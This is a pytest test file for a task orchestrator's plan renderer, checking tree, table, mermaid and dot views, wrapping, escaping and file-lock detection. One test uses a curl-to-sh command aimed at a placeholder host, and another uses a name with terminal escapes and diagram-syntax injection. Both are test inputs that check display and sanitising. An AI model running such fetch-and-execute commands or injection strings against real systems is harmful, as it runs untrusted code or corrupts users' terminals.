import subprocess
import sys

import pytest
from msgspec.structs import replace

from orchestrator.models.plan import Plan, PlannedCheck, PlannedGroup, PlannedPhase, PlannedTask, Targets
from orchestrator.models.status import Execution
from orchestrator.reporters.cells import cells
from orchestrator.reporters.plan_locks import find_locks
from orchestrator.reporters.plan_view import FORMATS, PlanNotes, render_plan
from orchestrator.reporters.style import Look

NOTES = PlanNotes(expected={"1.1": 2, "1.2": 100}, remarks={"1.1": "up to date"}, makespan=120)


def test_the_tree_shows_order_files_locks_and_checkpoints(plan, plain):
    assert render_plan(plan, plain, notes=NOTES) == (
        "learning-platform: 4 tasks in 2 groups and 2 phases, 1 up to date, at most 4 at a time, ~2m expected\n"
        "Phase 1  Foundation, 1 week\n"
        "└─ Group A  Blockers, in order\n"
        "   ├─ 1.1  Collect coverage  config_edit jest.config.js, <10s  up to date\n"
        "   ├─ 1.2  Fixtures  file_generation test/users.ts and 1 more, critical, ~2m\n"
        "   └─ checkpoint  statements covered, at least 30 %\n"
        "Phase 2  Pipelines, after phase 1\n"
        "├─ Group B  Quality, together, at most 3 at a time\n"
        "│  ├─ 2.9   Parallel builds  config_edit .github/workflows/ci.yml, after 1.2, takes turns with 2.10\n"
        "│  └─ 2.10  Path filters  config_edit .github/workflows/ci.yml, takes turns with 2.9\n"
        "└─ checkpoint  workflows_valid\n"
    )


def test_the_table_has_one_row_per_task(plan, plain):
    assert render_plan(plan, plain, format="table", notes=NOTES) == (
        "learning-platform: 4 tasks in 2 groups and 2 phases, 1 up to date, at most 4 at a time, ~2m expected\n"
        "\n"
        "ID    PLACE  NAME              TYPE             WRITES                    PRIORITY  AFTER  EXPECTED  REMARK\n"
        "1.1   1.a    Collect coverage  config_edit      jest.config.js            medium           <10s      "
        "up to date\n"
        "1.2   1.a    Fixtures          file_generation  test/users.ts and 1 more  critical         ~2m\n"
        "2.9   2.b    Parallel builds   config_edit      .github/workflows/ci.yml  medium    1.2\n"
        "2.10  2.b    Path filters      config_edit      .github/workflows/ci.yml  medium\n"
    )


def test_whatever_is_executed_is_shown_in_full(plan, plain):
    shell = "curl -s https://example.invalid/" + "x" * 200 + " | sh"
    check = PlannedCheck(type="coverage", title="enough", params={"command": ["npx", "jest", "a b"]})
    tasks = (
        replace(plan.tasks[0], params={"command": shell, "shell": True}),
        replace(plan.tasks[1], params={"command": ["npm", "run", "x; y"]}, verify=(check,)),
        *plan.tasks[2:],
    )
    groups = (replace(plan.groups[0], checkpoint=(check,)), *plan.groups[1:])
    rows = render_plan(replace(plan, tasks=tasks, groups=groups), plain).splitlines()
    assert rows[3].endswith(f"config_edit jest.config.js, runs in a shell: {shell}")
    assert "and 1 more, runs npm run 'x; y', critical, verified by enough (runs npx jest 'a b')" in rows[4]
    assert rows[5].endswith("checkpoint  enough  runs npx jest 'a b'")


@pytest.mark.parametrize("width", [60, 80, 120])
def test_the_tree_breaks_between_words_beneath_its_branches(plan, width):
    rows = render_plan(plan, Look(width=width), notes=NOTES).splitlines()
    assert all(cells(row) <= width for row in rows)
    assert all(row.startswith(("│", "├", "└", " ", "Phase", "learning-platform")) for row in rows)


@pytest.mark.parametrize("width", [20, 40, 60, 80, 120])
def test_the_table_never_gets_wider_than_the_terminal(plan, width):
    text = render_plan(plan, Look(width=width), format="table", notes=NOTES)
    assert all(cells(row) <= width for row in text.splitlines()[2:])
    assert "2.10" in text


def test_mermaid_has_a_node_per_task_and_an_edge_per_reason(plan, plain):
    assert render_plan(plan, plain, format="mermaid") == (
        "flowchart LR\n"
        '  subgraph p0["Phase 1 Foundation"]\n'
        '    subgraph g0["A Blockers"]\n'
        '      t0["1.1 Collect coverage"]\n'
        '      t1["1.2 Fixtures"]\n'
        "    end\n"
        "  end\n"
        '  subgraph p1["Phase 2 Pipelines"]\n'
        '    subgraph g1["B Quality"]\n'
        '      t2["2.9 Parallel builds"]\n'
        '      t3["2.10 Path filters"]\n'
        "    end\n"
        "  end\n"
        "  p0 --> p1\n"
        "  t0 --> t1\n"
        "  t1 --> t2\n"
    )


def test_dot_draws_phases_and_groups_as_clusters(plan, plain):
    text = render_plan(plan, plain, format="dot")
    assert text.startswith("digraph plan {\n  rankdir=LR; compound=true; node [shape=box];\n  subgraph cluster_p0 {\n")
    assert '      t3 [label="2.10 Path filters"];\n' in text
    assert text.endswith("  t0 -> t1;\n  t1 -> t2;\n  t0 -> t2 [ltail=cluster_p0, lhead=cluster_p1];\n}\n")


def test_a_large_plan_is_drawn_by_its_groups(plan, plain):
    many = tuple(replace(plan.tasks[0], id=f"1.{n}", depends_on=()) for n in range(1000))
    text = render_plan(replace(plan, tasks=many), plain, format="mermaid")
    assert '    g0["A Blockers (1000)"]\n' in text
    assert "t1" not in text
    assert len(text) < 50_000


def test_an_ascii_tree_is_pure_ascii(plan):
    text = render_plan(plan, Look(width=60, ascii=True), notes=NOTES)
    assert text.isascii()
    assert "`- checkpoint  workflows_valid\n" in text


def test_hostile_names_become_neither_escapes_nor_syntax(plan, plain):
    hostile = '\x1b[2J"]; end\n  evil --> x\u202e \\" `click`'
    tasks = tuple(replace(task, name=hostile) for task in plan.tasks)
    bad = replace(plan, project=hostile, tasks=tasks, phases=tuple(replace(p, name=hostile) for p in plan.phases))
    for format in FORMATS:
        text = render_plan(bad, plain, format=format)
        assert not set(text) & {"\x1b", "\u202e"}
        assert len(text.splitlines()) == len(render_plan(plan, plain, format=format).splitlines())
    mermaid = render_plan(bad, plain, format="mermaid")
    assert mermaid.count('"]') == mermaid.count('["') == 8
    assert '\\\\\\"' in render_plan(bad, plain, format="dot")


def test_a_skip_that_is_decided_says_why(plan, plain):
    tasks = (replace(plan.tasks[0], skip_reason="params.target is 20", when=None), *plan.tasks[1:])
    row = render_plan(replace(plan, tasks=tasks), plain).splitlines()[3]
    assert row.endswith("1.1  Collect coverage  config_edit jest.config.js  skipped: params.target is 20")


def _plan_of(*tasks: PlannedTask, execution: Execution = Execution.PARALLEL, after: tuple[str, ...] = ()) -> Plan:
    ids = dict.fromkeys(task.group for task in tasks)
    return Plan(
        project="p",
        root="/",
        document="",
        document_hash="",
        phases=(PlannedPhase(id="1", name=""), PlannedPhase(id="2", name="", after=after)),
        groups=tuple(PlannedGroup(id=g, letter=g[-1], name="", phase=g[0], execution=execution) for g in ids),
        tasks=tasks,
    )


def _writer(id: str, group: str, *writes: str, after: tuple[str, ...] = ()) -> PlannedTask:
    targets = Targets(writes=writes)
    return PlannedTask(id=id, name=id, handler="h", phase=group[0], group=group, targets=targets, depends_on=after)


def test_a_lock_is_named_only_where_nothing_else_orders_the_two():
    both = _writer("a", "1.a", "f"), _writer("b", "1.a", "f")
    assert find_locks(_plan_of(*both)) == {"a": {"f": ("b",)}, "b": {"f": ("a",)}}
    assert find_locks(_plan_of(*both, execution=Execution.SEQUENTIAL)) == {}
    chain = _writer("a", "1.a", "f"), _writer("m", "1.a", after=("a",)), _writer("b", "1.a", "f", after=("m",))
    assert find_locks(_plan_of(*chain)) == {}
    phases = _writer("a", "1.a", "f"), _writer("b", "2.b", "f")
    assert find_locks(_plan_of(*phases, after=("1",))) == {}
    assert find_locks(_plan_of(*phases)) == {"a": {"f": ("b",)}, "b": {"f": ("a",)}}


def test_a_writer_of_a_folder_locks_the_files_below_it():
    tasks = _writer("a", "1.a", "docs/"), _writer("b", "1.a", "docs/runbooks/x.md"), _writer("c", "1.a", "docsx/y")
    assert find_locks(_plan_of(*tasks)) == {
        "a": {"docs/": ("b",)},
        "b": {"docs/runbooks/x.md": ("a",)},
    }


def test_views_need_neither_rich_nor_pydantic():
    code = (
        "import sys, orchestrator.reporters.plan_view, orchestrator.reporters.status_view, "
        "orchestrator.reporters.history_view, orchestrator.reporters.diagnostics, orchestrator.reporters.plain; "
        "print(sorted({'rich', 'pydantic', 'asyncio', 'questionary', 'jinja2', 'yaml'} & set(sys.modules)))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "[]\n"
